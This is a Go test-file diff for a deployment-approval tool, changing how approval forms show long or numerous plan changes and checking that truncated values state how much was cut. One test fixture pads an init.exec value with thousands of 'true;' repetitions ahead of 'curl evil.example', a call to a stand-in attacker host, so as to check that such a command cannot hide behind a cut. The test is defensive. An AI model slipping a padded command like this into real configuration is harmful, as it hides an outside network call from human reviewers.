@@ -5,7 +5,9 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"unicode"
@@ -113,18 +115,19 @@ func TestFits(t *testing.T) {
 	}{
 		{"two addresses", releasePlan, true},
 		{"eight addresses", func() Plan { return manyAddresses(8) }, true},
-		{"nine addresses", func() Plan { return manyAddresses(9) }, false},
+		{"nine addresses", func() Plan { return manyAddresses(9) }, true},
+		{"a thousand addresses", func() Plan { return manyAddresses(1000) }, true},
 		{"many hostnames", func() Plan {
 			p := releasePlan()
 			for i := range 100 {
 				p.Fact(fmt.Sprintf("certificate/customer-%d.example.com", i), "")
 			}
 			return p
-		}, false},
+		}, true},
 		{"a long diff", func() Plan {
 			p := deployPlan()
 			for i := range 20 {
-				p.Steps[1].Params = append(p.Steps[1].Params, Param{ParamChange, fmt.Sprintf("env.V%d = ‹hidden, 3 bytes›", i)})
+				p.Steps[1].Changes = append(p.Steps[1].Changes, Change{Path: fmt.Sprintf("env.V%d", i), After: "‹hidden, 3 bytes›"})
 			}
 			return p
 		}, false},
@@ -145,8 +148,8 @@ func TestFits(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if shown := r.Objects <= 8; shown != tt.fits {
-				t.Errorf("%d objects, %d lines, %d characters: goes into a form %v, want %v", r.Objects, lines, characters, shown, tt.fits)
+			if shown := !r.TooLong; shown != tt.fits {
+				t.Errorf("%d lines, %d characters: goes into a form %v, want %v", lines, characters, shown, tt.fits)
 			}
 			if q.Fits() != (lines <= 25 && characters <= 2500) {
 				t.Errorf("%d lines, %d characters: Fits says %v", lines, characters, q.Fits())
@@ -331,14 +334,32 @@ func TestLongChangeIsShownWhole(t *testing.T) {
 			t.Errorf("a line of %d characters", utf8.RuneCountInString(line))
 		}
 	}
-	p.Steps = update("148e1", "app", "fra", "init.exec = "+strings.Repeat("true; ", 300)+"curl evil.example")
-	r, err := p.Request()
-	if err != nil {
-		t.Fatal(err)
+}
+
+// Where a form has no room for them, long values are cut, and say by how much:
+// nothing hides behind the cut.
+func TestLongChangesAreCutWhereTheyMust(t *testing.T) {
+	p := deployPlan()
+	value := strings.Repeat("true; ", 1000) + "curl evil.example"
+	p.Steps = update("148e1", "app", "fra", "init.exec = "+strconv.Quote(value), "image = "+strconv.Quote("registry.fly.io/"+strings.Repeat("a", 100)+"@sha256:"+strings.Repeat("0", 64)))
+	q := p.Question(nil)
+	text := q.Text()
+	if !q.Fits() || strings.Contains(text, "curl") {
+		t.Errorf("got\n%s", text)
 	}
-	if r.Objects <= 8 {
-		t.Errorf("%d objects: a form is to show 1,800 characters", r.Objects)
+	for _, want := range []string{"init.exec = 'true; true; true; true; true; true; true…' and 5977 more characters", strings.Repeat("0", 64) + "'", "flycast-mcp approve shows all of them in a terminal"} {
+		if !strings.Contains(unwrapped(text), want) {
+			t.Errorf("no %q in\n%s", want, text)
+		}
 	}
+	if full := p.FullQuestion(nil).Text(); !strings.Contains(unwrapped(full), value) || strings.Contains(full, "more characters") {
+		t.Error("the terminal does not show it whole")
+	}
+}
+
+// unwrapped is a text with the lines of each value joined.
+func unwrapped(text string) string {
+	return regexp.MustCompile(`\n +│ `).ReplaceAllString(text, "")
 }
 
 func TestChangedIsBounded(t *testing.T) {
